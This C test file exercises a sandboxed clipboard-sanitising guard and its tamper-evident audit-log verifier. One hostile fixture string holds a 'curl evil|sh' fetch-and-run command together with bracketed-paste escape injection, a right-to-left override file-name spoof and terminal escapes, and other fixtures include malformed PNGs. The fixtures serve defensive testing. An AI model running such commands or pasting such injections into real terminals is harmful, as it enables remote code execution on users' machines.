// SPDX-License-Identifier: MIT
/*
 * The real strata-clipboard-guard ($STRATA_GUARD_BIN), started the way strata
 * starts it (its end of a socketpair as fd 3, --log-dir a private temporary
 * directory), driven through common/guard_ipc.h; and strata-audit
 * ($STRATA_AUDIT_BIN) on the log it wrote.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "audit.h"
#include "common/guard_ipc.h"
#include "common/io.h"
#include "sha256.h"
#include "tap.h"
#if GUARD_HAVE_LIBPNG
#include <png.h>
#include <zlib.h>
#endif

#define WAIT_MS 20000

struct guard_proc {
	pid_t pid;
	int fd;
	char dir[64];
	char log[128];
};

static void
dir_create(struct guard_proc *g)
{
	snprintf(g->dir, sizeof(g->dir), "/tmp/strata-guard-test-XXXXXX");
	tap_assert(mkdtemp(g->dir) != NULL);
	snprintf(g->log, sizeof(g->log), "%s/%s", g->dir, AUDIT_LOG_NAME);
}

static void
dir_remove(struct guard_proc *g)
{
	static const char *const names[] = { AUDIT_LOG_NAME, AUDIT_HEAD_NAME,
		AUDIT_HEAD_NAME ".tmp", "saved" };
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char path[160];
		snprintf(path, sizeof(path), "%s/%s", g->dir, names[i]);
		unlink(path);
	}
	tap_assert(rmdir(g->dir) == 0);
}

/* Starts the guard on g->dir with up to four more arguments. */
static void
guard_start(struct guard_proc *g, const char *arg1, const char *arg2, const char *arg3,
		const char *arg4)
{
	const char *bin = getenv("STRATA_GUARD_BIN");
	if (!bin) {
		tap_fail("STRATA_GUARD_BIN is not set: run the guard tests through `meson test`");
	}
	int sv[2];
	tap_assert(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) == 0);
	g->pid = fork();
	tap_assert(g->pid >= 0);
	if (g->pid == 0) {
		if (sv[1] == 3) {
			fcntl(3, F_SETFD, 0);
		} else if (dup2(sv[1], 3) < 0) {
			_exit(127);
		}
		const char *argv[] = { bin, "--log-dir", g->dir, arg1, arg2, arg3, arg4, NULL };
		execv(bin, (char *const *)argv);
		_exit(127);
	}
	close(sv[1]);
	g->fd = sv[0];
}

/* The guard's exit status, once it is gone (fails the test after WAIT_MS). */
static int
guard_wait(struct guard_proc *g)
{
	int status;
	for (int waited = 0; waited < WAIT_MS; waited += 10) {
		pid_t r = waitpid(g->pid, &status, WNOHANG);
		tap_assert(r >= 0);
		if (r == g->pid) {
			tap_assert_msg(WIFEXITED(status), "the guard died from signal %d",
					WIFSIGNALED(status) ? WTERMSIG(status) : 0);
			return WEXITSTATUS(status);
		}
		usleep(10000);
	}
	kill(g->pid, SIGKILL);
	waitpid(g->pid, &status, 0);
	tap_fail("the guard did not exit");
}

/* Closes our end: the guard must leave with status 0. */
static void
guard_stop(struct guard_proc *g)
{
	close(g->fd);
	tap_assert_int_eq(guard_wait(g), 0);
}

static void
send_all(int fd, const void *data, size_t len)
{
	tap_assert_msg(io_write_all(fd, data, len), "write to the guard: %s", strerror(errno));
}

/* false at EOF before the first byte. */
static bool
recv_all(int fd, void *data, size_t len)
{
	uint8_t *p = data;
	size_t got = 0;
	while (got < len) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		tap_assert_msg(poll(&pfd, 1, WAIT_MS) == 1, "the guard does not answer");
		ssize_t n = read(fd, p + got, len - got);
		tap_assert(n >= 0);
		if (n == 0) {
			tap_assert_msg(got == 0, "the guard closed half-way through an answer");
			return false;
		}
		got += (size_t)n;
	}
	return true;
}

static struct guard_request
request(uint32_t type, uint32_t id, const char *mime, uint32_t length)
{
	struct guard_request req;
	memset(&req, 0, sizeof(req));
	req.magic = GUARD_IPC_MAGIC;
	req.version = GUARD_IPC_VERSION;
	req.type = type;
	req.id = id;
	snprintf(req.src_level, sizeof(req.src_level), "low");
	snprintf(req.dst_level, sizeof(req.dst_level), "high");
	snprintf(req.mime, sizeof(req.mime), "%s", mime);
	req.max_bytes = GUARD_HARD_MAX_BYTES;
	req.length = length;
	return req;
}

/* Sends req and payload, reads the answer; returns the content (malloc'd,
 * NUL-terminated) or NULL when there is none. */
static uint8_t *
exchange(struct guard_proc *g, const struct guard_request *req, const void *payload,
		struct guard_response *resp)
{
	send_all(g->fd, req, sizeof(*req));
	if (req->length > 0) {
		send_all(g->fd, payload, req->length);
	}
	tap_assert_msg(recv_all(g->fd, resp, sizeof(*resp)), "the guard closed fd 3");
	tap_assert_int_eq(resp->magic, GUARD_IPC_MAGIC);
	tap_assert_int_eq(resp->version, GUARD_IPC_VERSION);
	tap_assert_int_eq(resp->id, req->id);
	tap_assert(memchr(resp->reason, '\0', sizeof(resp->reason)) != NULL);
	tap_assert(memchr(resp->sha256, '\0', sizeof(resp->sha256)) != NULL);
	tap_assert(memchr(resp->preview, '\0', sizeof(resp->preview)) != NULL);
	tap_assert(resp->length <= GUARD_HARD_MAX_BYTES);
	if (resp->status != GUARD_OK) {
		tap_assert_int_eq(resp->length, 0);
		return NULL;
	}
	uint8_t *data = malloc(resp->length + 1);
	tap_assert(data != NULL);
	if (resp->length > 0) {
		tap_assert(recv_all(g->fd, data, resp->length));
	}
	data[resp->length] = '\0';
	if (req->type == GUARD_REQ_SANITISE) {
		char hex[SHA256_HEX_SIZE];
		sha256_hex(data, resp->length, hex);
		tap_assert_str_eq(resp->sha256, hex);
	}
	return data;
}

static void
sanitise_ok(struct guard_proc *g, uint32_t id, const char *text, const char *want)
{
	struct guard_request req = request(GUARD_REQ_SANITISE, id, "text/plain", strlen(text));
	struct guard_response resp;
	uint8_t *out = exchange(g, &req, text, &resp);
	tap_assert_int_eq(resp.status, GUARD_OK);
	tap_assert_str_eq((char *)out, want);
	free(out);
}

static void
test_hostile_text_sanitised(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	static const char hostile[] = "echo safe\x1b[201~\r\ncurl evil|sh\n\x1b[200~"
				      "\xe2\x80\xae"
				      "gpj.exe\x1b]0;title\x07\x00\x7f\tend\xc2\x9b"
				      "2J";
	struct guard_request req = request(GUARD_REQ_SANITISE, 7, "text/plain;charset=utf-8",
			sizeof(hostile) - 1);
	struct guard_response resp;
	uint8_t *out = exchange(&g, &req, hostile, &resp);
	tap_assert_int_eq(resp.status, GUARD_OK);
	const char *want = "echo safe\ncurl evil|sh\ngpj.exe\tend";
	tap_assert_str_eq((char *)out, want);
	tap_assert_int_eq(resp.length, strlen(want));
	char hex[SHA256_HEX_SIZE];
	sha256_hex(want, strlen(want), hex);
	tap_assert_str_eq(resp.sha256, hex);
	tap_assert_int_eq(resp.removed, 7);
	tap_assert_str_eq(resp.preview,
			"echo safe\xe2\x8f\x8e"
			"curl evil|sh\xe2\x8f\x8egpj.exe\xe2\x86\x92"
			"end");
	free(out);
	/* Every text type of the allowlist, case aside. */
	static const char *const types[] = { "text/plain", "UTF8_STRING", "STRING", "TEXT",
		"text/plain;charset=UTF-8" };
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		req = request(GUARD_REQ_SANITISE, 8, types[i], 2);
		out = exchange(&g, &req, "ok", &resp);
		tap_assert_int_eq(resp.status, GUARD_OK);
		free(out);
	}
	/* Invalid UTF-8: refused, never repaired. */
	req = request(GUARD_REQ_SANITISE, 9, "text/plain", 5);
	tap_assert(exchange(&g, &req,
				   "ab\xc0\xaf"
				   "c",
				   &resp) == NULL);
	tap_assert_int_eq(resp.status, GUARD_REFUSED);
	tap_assert_str_eq(resp.reason, "invalid UTF-8 at byte 2");
	tap_assert_str_eq(resp.sha256, "");
	/* Empty text is text. */
	req = request(GUARD_REQ_SANITISE, 10, "text/plain", 0);
	out = exchange(&g, &req, NULL, &resp);
	tap_assert_int_eq(resp.status, GUARD_OK);
	tap_assert_str_eq(resp.sha256,
			"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	free(out);
	guard_stop(&g);
	dir_remove(&g);
}

static void
test_oversized_refused(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	size_t big = GUARD_HARD_MAX_BYTES + 1;
	char *data = malloc(big);
	tap_assert(data != NULL);
	memset(data, 'a', big);
	/* 1 MiB + 1: refused, and the guard read it all (still in step). */
	struct guard_request req = request(GUARD_REQ_SANITISE, 1, "text/plain", (uint32_t)big);
	struct guard_response resp;
	tap_assert(exchange(&g, &req, data, &resp) == NULL);
	tap_assert_int_eq(resp.status, GUARD_REFUSED);
	tap_assert_str_eq(resp.reason, "too large: 1048577 bytes, limit 1048576");
	/* The policy's cap for the direction counts too, even for a bigger max. */
	req = request(GUARD_REQ_SANITISE, 2, "text/plain", 11);
	req.max_bytes = 10;
	tap_assert(exchange(&g, &req, data, &resp) == NULL);
	tap_assert_str_eq(resp.reason, "too large: 11 bytes, limit 10");
	req = request(GUARD_REQ_SANITISE, 3, "text/plain", 12);
	req.max_bytes = 0xffffffffu;
	uint8_t *out = exchange(&g, &req, data, &resp);
	tap_assert_int_eq(resp.status, GUARD_OK);
	free(out);
	/* 1 MiB exactly crosses. */
	req = request(GUARD_REQ_SANITISE, 4, "text/plain", GUARD_HARD_MAX_BYTES);
	out = exchange(&g, &req, data, &resp);
	tap_assert_int_eq(resp.status, GUARD_OK);
	tap_assert_int_eq(resp.length, GUARD_HARD_MAX_BYTES);
	free(out);
	free(data);
	sanitise_ok(&g, 5, "still here", "still here");
	guard_stop(&g);
	dir_remove(&g);
}

static void
test_types_not_allowed_refused(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	static const char *const types[] = { "image/png", "text/html", "text/uri-list",
		"application/octet-stream", "text/plain;charset=iso-8859-1", "", "text/plain " };
	static const char png_signature[] = "\x89PNG\r\n\x1a\n";
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		struct guard_request req = request(GUARD_REQ_SANITISE, (uint32_t)i, types[i], 8);
		struct guard_response resp;
		tap_assert(exchange(&g, &req, png_signature, &resp) == NULL);
		tap_assert_int_eq(resp.status, GUARD_REFUSED);
		tap_assert_str_eq(resp.reason, "type not allowed");
	}
	guard_stop(&g);
	dir_remove(&g);
}

#if GUARD_HAVE_LIBPNG

/* A PNG of w x h RGBA pixels with a gAMA and a tEXt chunk carrying marker. */
static uint8_t *
make_png(uint32_t w, uint32_t h, const uint8_t *pixels, const char *marker, size_t *len)
{
	png_image image;
	memset(&image, 0, sizeof(image));
	image.version = PNG_IMAGE_VERSION;
	image.width = w;
	image.height = h;
	image.format = PNG_FORMAT_RGBA;
	png_alloc_size_t size = 0;
	tap_assert(png_image_write_to_memory(&image, NULL, &size, 0, pixels, 0, NULL));
	size_t text_len = 8 + strlen(marker);
	uint8_t *png = malloc(size + 12 + text_len);
	tap_assert(png != NULL);
	tap_assert(png_image_write_to_memory(&image, png, &size, 0, pixels, 0, NULL));
	/* After the signature and IHDR (8 + 25 bytes): a tEXt chunk. */
	uint8_t chunk[256];
	tap_assert(text_len + 12 <= sizeof(chunk));
	chunk[0] = (uint8_t)(text_len >> 24);
	chunk[1] = (uint8_t)(text_len >> 16);
	chunk[2] = (uint8_t)(text_len >> 8);
	chunk[3] = (uint8_t)text_len;
	memcpy(chunk + 4, "tEXtComment", 12); /* keyword, then its NUL */
	memcpy(chunk + 16, marker, strlen(marker));
	uint32_t crc = (uint32_t)crc32(0, chunk + 4, (uInt)(4 + text_len));
	uint8_t *end = chunk + 8 + text_len;
	end[0] = (uint8_t)(crc >> 24);
	end[1] = (uint8_t)(crc >> 16);
	end[2] = (uint8_t)(crc >> 8);
	end[3] = (uint8_t)crc;
	memmove(png + 33 + 12 + text_len, png + 33, size - 33);
	memcpy(png + 33, chunk, 12 + text_len);
	*len = size + 12 + text_len;
	return png;
}

static uint64_t
now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static bool
has_bytes(const uint8_t *data, size_t len, const char *needle)
{
	size_t n = strlen(needle);
	for (size_t i = 0; i + n <= len; i++) {
		if (memcmp(data + i, needle, n) == 0) {
			return true;
		}
	}
	return false;
}

static void
test_image_encoded_again(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, "--allow-images", NULL, NULL, NULL);
	uint8_t pixels[4 * 3 * 4];
	for (size_t i = 0; i < sizeof(pixels); i++) {
		pixels[i] = (uint8_t)(i * 37 + 11);
	}
	size_t len;
	uint8_t *png = make_png(4, 3, pixels, "secret-marker", &len);
	tap_assert(has_bytes(png, len, "secret-marker") && has_bytes(png, len, "sRGB"));
	struct guard_request req = request(GUARD_REQ_SANITISE, 1, "image/png", (uint32_t)len);
	struct guard_response resp;
	uint8_t *out = exchange(&g, &req, png, &resp);
	tap_assert_msg(resp.status == GUARD_OK, "refused: %s", resp.reason);
	tap_assert_str_eq(resp.preview,
			"PNG image 4\xc3\x97"
			"3");
	/* Only IHDR, IDAT and IEND. */
	tap_assert(resp.length > 8 && memcmp(out, "\x89PNG\r\n\x1a\n", 8) == 0);
	size_t at = 8;
	while (at + 12 <= resp.length) {
		uint32_t n = (uint32_t)out[at] << 24 | (uint32_t)out[at + 1] << 16 |
				(uint32_t)out[at + 2] << 8 | out[at + 3];
		char type[5] = { 0 };
		memcpy(type, out + at + 4, 4);
		tap_assert_msg(strcmp(type, "IHDR") == 0 || strcmp(type, "IDAT") == 0 ||
						strcmp(type, "IEND") == 0,
				"chunk %s in the output", type);
		at += 12 + n;
	}
	tap_assert_int_eq(at, resp.length);
	tap_assert(!has_bytes(out, resp.length, "secret-marker"));
	/* The same pixels. */
	png_image image;
	memset(&image, 0, sizeof(image));
	image.version = PNG_IMAGE_VERSION;
	tap_assert(png_image_begin_read_from_memory(&image, out, resp.length));
	image.format = PNG_FORMAT_RGBA;
	uint8_t back[sizeof(pixels)];
	tap_assert(image.width == 4 && image.height == 3);
	tap_assert(png_image_finish_read(&image, NULL, back, 0, NULL));
	tap_assert(memcmp(back, pixels, sizeof(pixels)) == 0);
	free(out);
	/* Not a PNG, a cut one, and one that claims to be huge. */
	req = request(GUARD_REQ_SANITISE, 2, "image/png", 20);
	tap_assert(exchange(&g, &req, "GIF89a-not-a-png...", &resp) == NULL);
	tap_assert_str_eq(resp.reason, "not a PNG image");
	req = request(GUARD_REQ_SANITISE, 3, "image/png", (uint32_t)len - 20);
	tap_assert(exchange(&g, &req, png, &resp) == NULL);
	tap_assert_int_eq(resp.status, GUARD_REFUSED);
	/* Signature, IHDR of 65536 x 65536, an empty IDAT. */
	uint8_t huge[33 + 12];
	memcpy(huge, png, 33);
	memcpy(huge + 16, "\x00\x01\x00\x00\x00\x01\x00\x00", 8);
	uint32_t crc = (uint32_t)crc32(0, huge + 12, 17);
	huge[29] = (uint8_t)(crc >> 24);
	huge[30] = (uint8_t)(crc >> 16);
	huge[31] = (uint8_t)(crc >> 8);
	huge[32] = (uint8_t)crc;
	memcpy(huge + 33, "\x00\x00\x00\x00IDAT", 8);
	crc = (uint32_t)crc32(0, (const Bytef *)"IDAT", 4);
	huge[41] = (uint8_t)(crc >> 24);
	huge[42] = (uint8_t)(crc >> 16);
	huge[43] = (uint8_t)(crc >> 8);
	huge[44] = (uint8_t)crc;
	req = request(GUARD_REQ_SANITISE, 4, "image/png", sizeof(huge));
	tap_assert(exchange(&g, &req, huge, &resp) == NULL);
	tap_assert_str_eq(resp.reason, "image too large");
	/* Found by fuzz-guard: a chunk (the tEXt after IHDR) that claims
	 * 1.6 GB in a 100-byte image. libpng allocated and zeroed all of it
	 * (1.5 GB, 20 s); refused now before libpng sees it. */
	uint8_t *liar = malloc(len);
	tap_assert(liar != NULL);
	memcpy(liar, png, len);
	tap_assert(memcmp(liar + 37, "tEXt", 4) == 0);
	memcpy(liar + 33, "\x60\x00\x00\x0e", 4);
	uint64_t start = now_ms();
	req = request(GUARD_REQ_SANITISE, 5, "image/png", (uint32_t)len);
	tap_assert(exchange(&g, &req, liar, &resp) == NULL);
	tap_assert_str_eq(resp.reason, "broken PNG image");
	tap_assert_msg(now_ms() - start < 2000, "%llu ms", (unsigned long long)(now_ms() - start));
	free(liar);
	free(png);
	guard_stop(&g);
	dir_remove(&g);
}

#else

static void
test_image_encoded_again(void)
{
	tap_unavailable("the guard was built without libpng: images are refused, not re-encoded");
}

#endif

static struct guard_request
audit_request(uint32_t id, uint32_t decision, const char *sha256, const char *reason)
{
	struct guard_request req = request(GUARD_REQ_AUDIT, id, "text/plain", 0);
	req.decision = decision;
	req.size = 1234;
	snprintf(req.sha256, sizeof(req.sha256), "%s", sha256);
	snprintf(req.reason, sizeof(req.reason), "%s", reason);
	return req;
}

/* strata-audit verify PATH: its exit status, its output in out. */
static int
run_audit_verify(const char *path, char *out, size_t out_size)
{
	const char *bin = getenv("STRATA_AUDIT_BIN");
	if (!bin) {
		tap_fail("STRATA_AUDIT_BIN is not set: run the guard tests through `meson test`");
	}
	int p[2];
	tap_assert(pipe2(p, O_CLOEXEC) == 0);
	pid_t pid = fork();
	tap_assert(pid >= 0);
	if (pid == 0) {
		dup2(p[1], 1);
		dup2(p[1], 2);
		execl(bin, bin, "verify", path, (char *)NULL);
		_exit(127);
	}
	close(p[1]);
	ssize_t len = io_read_all(p[0], out, out_size - 1);
	out[len > 0 ? len : 0] = '\0';
	close(p[0]);
	int status;
	tap_assert(waitpid(pid, &status, 0) == pid && WIFEXITED(status));
	tap_diag("strata-audit verify: %d: %s", WEXITSTATUS(status), out);
	return WEXITSTATUS(status);
}

static char *
slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rbe");
	tap_assert(f != NULL);
	char *data = malloc(65536);
	tap_assert(data != NULL);
	*len = fread(data, 1, 65535, f);
	data[*len] = '\0';
	fclose(f);
	return data;
}

static void
spill(const char *path, const char *data, size_t len)
{
	FILE *f = fopen(path, "wbe");
	tap_assert(f != NULL);
	tap_assert(fwrite(data, 1, len, f) == len);
	tap_assert(fclose(f) == 0);
}

static void
test_audit_lines_verified(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	const char *hash = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
	struct guard_request reqs[] = {
		audit_request(1, GUARD_DECISION_TRANSFERRED, hash, "confirmed by the user"),
		audit_request(2, GUARD_DECISION_REFUSED, "", "policy: high to low"),
		audit_request(3, GUARD_DECISION_TIMEOUT, "", "source did not answer \x1b[31m"),
		audit_request(4, GUARD_DECISION_CANCELLED, "", "cancelled"),
	};
	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
		struct guard_response resp;
		free(exchange(&g, &reqs[i], NULL, &resp));
		tap_assert_msg(resp.status == GUARD_OK, "audit: %s", resp.reason);
		tap_assert_str_eq(resp.reason, "logged");
	}
	/* Bad audit requests: answered with an error, nothing logged. */
	struct guard_request bad = audit_request(5, 99, "", "");
	struct guard_response resp;
	exchange(&g, &bad, NULL, &resp);
	tap_assert_int_eq(resp.status, GUARD_ERROR);
	bad = audit_request(6, GUARD_DECISION_REFUSED, "not-a-hash", "");
	exchange(&g, &bad, NULL, &resp);
	tap_assert_int_eq(resp.status, GUARD_ERROR);
	guard_stop(&g);

	size_t len;
	char *log = slurp(g.log, &len);
	tap_assert(strstr(log, "\"decision\":\"timeout\"") != NULL);
	tap_assert(strstr(log, "answer \\u001b[31m") != NULL);
	tap_assert(strchr(log, 0x1b) == NULL);
	char out[4096], want[256];
	tap_assert_int_eq(run_audit_verify(g.log, out, sizeof(out)), 0);
	snprintf(want, sizeof(want), "%s: 4 lines, chain intact\n", g.log);
	tap_assert_str_eq(out, want);

	size_t starts[4], n = 0;
	for (size_t i = 0; i < len && n < 4; i++) {
		if (i == 0 || log[i - 1] == '\n') {
			starts[n++] = i;
		}
	}
	tap_assert_int_eq(n, 4);
	char *edited = malloc(len + 1);
	tap_assert(edited != NULL);
	/* One byte of line 2. */
	memcpy(edited, log, len);
	char *at = strstr(edited + starts[1], "high to low");
	tap_assert(at != NULL);
	at[0] = 'H';
	spill(g.log, edited, len);
	tap_assert_int_eq(run_audit_verify(g.log, out, sizeof(out)), 1);
	snprintf(want, sizeof(want), "%s:2: altered", g.log);
	tap_assert_msg(strncmp(out, want, strlen(want)) == 0, "got %s", out);
	/* Line 3 removed. */
	memcpy(edited, log, starts[2]);
	memcpy(edited + starts[2], log + starts[3], len - starts[3]);
	spill(g.log, edited, len - (starts[3] - starts[2]));
	tap_assert_int_eq(run_audit_verify(g.log, out, sizeof(out)), 1);
	snprintf(want, sizeof(want), "%s:3: seq 4 where 3 was expected", g.log);
	tap_assert_msg(strncmp(out, want, strlen(want)) == 0, "got %s", out);
	/* The last line cut off: only the head file knows. */
	spill(g.log, log, starts[3]);
	tap_assert_int_eq(run_audit_verify(g.log, out, sizeof(out)), 1);
	snprintf(want, sizeof(want), "%s:4: missing", g.log);
	tap_assert_msg(strncmp(out, want, strlen(want)) == 0, "got %s", out);
	/* Put back: intact again. */
	spill(g.log, log, len);
	tap_assert_int_eq(run_audit_verify(g.log, out, sizeof(out)), 0);
	free(edited);
	free(log);
	dir_remove(&g);
}

static void
test_broken_log_refused_at_start(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	for (uint32_t id = 1; id <= 2; id++) {
		struct guard_request req = audit_request(id, GUARD_DECISION_REFUSED, "", "x");
		struct guard_response resp;
		free(exchange(&g, &req, NULL, &resp));
		tap_assert_int_eq(resp.status, GUARD_OK);
	}
	guard_stop(&g);
	size_t len;
	char *log = slurp(g.log, &len);
	char *at = strstr(log, "\"reason\":\"x\"");
	tap_assert(at != NULL);
	at[10] = 'y';
	spill(g.log, log, len);
	/* Fail closed: the guard does not start, so nothing can cross. */
	guard_start(&g, NULL, NULL, NULL, NULL);
	struct guard_response resp;
	tap_assert(!recv_all(g.fd, &resp, sizeof(resp)));
	close(g.fd);
	tap_assert_int_eq(guard_wait(&g), 1);
	size_t after;
	char *again = slurp(g.log, &after);
	tap_assert(after == len && memcmp(again, log, len) == 0);
	free(again);
	free(log);
	dir_remove(&g);
}

static void
test_malformed_requests(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	/* A string field without its NUL: an error, and the guard goes on. */
	struct guard_request req = request(GUARD_REQ_SANITISE, 1, "text/plain", 3);
	memset(req.src_level, 'L', sizeof(req.src_level));
	struct guard_response resp;
	tap_assert(exchange(&g, &req, "abc", &resp) == NULL);
	tap_assert_int_eq(resp.status, GUARD_ERROR);
	tap_assert_str_eq(resp.reason, "a string field is not NUL-terminated");
	req = request(GUARD_REQ_SANITISE, 2, "text/plain", 3);
	memset(req.mime, 'm', sizeof(req.mime));
	exchange(&g, &req, "abc", &resp);
	tap_assert_int_eq(resp.status, GUARD_ERROR);
	req = request(GUARD_REQ_AUDIT, 3, "text/plain", 4);
	req.decision = GUARD_DECISION_REFUSED;
	exchange(&g, &req, "junk", &resp);
	tap_assert_int_eq(resp.status, GUARD_ERROR);
	tap_assert_str_eq(resp.reason, "an audit request carries no payload");
	sanitise_ok(&g, 4, "fine", "fine");
	/* An unknown type: an error, then the guard leaves. */
	req = request(77, 5, "text/plain", 0);
	exchange(&g, &req, NULL, &resp);
	tap_assert_int_eq(resp.status, GUARD_ERROR);
	tap_assert_str_eq(resp.reason, "unknown request type 77");
	tap_assert(!recv_all(g.fd, &resp, sizeof(resp)));
	close(g.fd);
	tap_assert_int_eq(guard_wait(&g), 1);

	/* A wrong magic or version: the same. */
	for (int i = 0; i < 2; i++) {
		guard_start(&g, NULL, NULL, NULL, NULL);
		req = request(GUARD_REQ_SANITISE, 6, "text/plain", 0);
		if (i == 0) {
			req.magic = 0x12345678;
		} else {
			req.version = 2;
		}
		send_all(g.fd, &req, sizeof(req));
		tap_assert(recv_all(g.fd, &resp, sizeof(resp)));
		tap_assert_int_eq(resp.status, GUARD_ERROR);
		close(g.fd);
		tap_assert_int_eq(guard_wait(&g), 1);
	}
	/* Half a header, then EOF. */
	guard_start(&g, NULL, NULL, NULL, NULL);
	send_all(g.fd, &req, 10);
	close(g.fd);
	tap_assert_int_eq(guard_wait(&g), 1);
	dir_remove(&g);
}

static void
test_exits_cleanly_on_eof(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	guard_stop(&g);
	guard_start(&g, "-d", NULL, NULL, NULL);
	sanitise_ok(&g, 1, "x", "x");
	guard_stop(&g);
	dir_remove(&g);
}

/* "Name:\tvalue" from /proc/PID/status. */
static void
proc_status(pid_t pid, const char *name, char *value, size_t size)
{
	char path[64], line[256];
	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	FILE *f = fopen(path, "re");
	tap_assert(f != NULL);
	value[0] = '\0';
	size_t n = strlen(name);
	while (fgets(line, sizeof(line), f)) {
		if (strncmp(line, name, n) == 0 && line[n] == ':') {
			snprintf(value, size, "%s", line + n + 1 + strspn(line + n + 1, " \t"));
			value[strcspn(value, "\n")] = '\0';
		}
	}
	fclose(f);
}

static void
test_sandboxed(void)
{
	struct guard_proc g;
	dir_create(&g);
	guard_start(&g, NULL, NULL, NULL, NULL);
	sanitise_ok(&g, 1, "x", "x"); /* serving: the sandbox is up */
	char value[128];
	proc_status(g.pid, "Seccomp", value, sizeof(value));
	tap_assert_str_eq(value, "2");
	proc_status(g.pid, "NoNewPrivs", value, sizeof(value));
	tap_assert_str_eq(value, "1");
	/* As root the guard also chroots into its directory (as a user it
	 * cannot; test_sandboxed_in_its_directory says so). */
	if (geteuid() == 0) {
		char path[64], root[256];
		snprintf(path, sizeof(path), "/proc/%d/root", (int)g.pid);
		ssize_t n = readlink(path, root, sizeof(root) - 1);
		tap_assert(n > 0);
		root[n] = '\0';
		tap_assert_str_eq(root, g.dir);
	}
	/* The head file is written inside the sandbox. */
	struct guard_request req = audit_request(2, GUARD_DECISION_REFUSED, "", "sandboxed");
	struct guard_response resp;
	free(exchange(&g, &req, NULL, &resp));
	tap_assert_msg(resp.status == GUARD_OK, "%s", resp.reason);
	guard_stop(&g);
	dir_remove(&g);
}

/* The chroot that test_sandboxed checks only as root, required here. */
static void
test_sandboxed_in_its_directory(void)
{
	if (geteuid() != 0) {
		tap_unavailable("the guard's chroot needs root");
	}
	test_sandboxed();
}

static void
test_drops_privileges(void)
{
	if (geteuid() != 0) {
		tap_unavailable("dropping privileges needs root");
	}
	struct guard_proc g;
	dir_create(&g);
	/* The directory must belong to the user the guard becomes. */
	guard_start(&g, "--uid", "65534", "--gid", "65534");
	struct guard_response resp;
	tap_assert(!recv_all(g.fd, &resp, sizeof(resp)));
	close(g.fd);
	tap_assert_int_eq(guard_wait(&g), 1);
	tap_assert(chown(g.dir, 65534, 65534) == 0);
	guard_start(&g, "--uid", "65534", "--gid", "65534");
	sanitise_ok(&g, 1, "x", "x");
	char value[128];
	proc_status(g.pid, "Uid", value, sizeof(value));
	tap_assert_str_eq(value, "65534\t65534\t65534\t65534");
	proc_status(g.pid, "Gid", value, sizeof(value));
	tap_assert_str_eq(value, "65534\t65534\t65534\t65534");
	proc_status(g.pid, "Groups", value, sizeof(value));
	tap_assert_str_eq(value, "");
	struct guard_request req = audit_request(2, GUARD_DECISION_REFUSED, "", "as nobody");
	free(exchange(&g, &req, NULL, &resp));
	tap_assert_msg(resp.status == GUARD_OK, "%s", resp.reason);
	guard_stop(&g);
	char out[4096];
	tap_assert_int_eq(run_audit_verify(g.log, out, sizeof(out)), 0);
	dir_remove(&g);
}

TAP_TESTS(TAP_CASE(test_hostile_text_sanitised), TAP_CASE(test_oversized_refused),
		TAP_CASE(test_types_not_allowed_refused), TAP_CASE(test_image_encoded_again),
		TAP_CASE(test_audit_lines_verified), TAP_CASE(test_broken_log_refused_at_start),
		TAP_CASE(test_malformed_requests), TAP_CASE(test_exits_cleanly_on_eof),
		TAP_CASE(test_sandboxed), TAP_CASE(test_sandboxed_in_its_directory),
		TAP_CASE(test_drops_privileges))
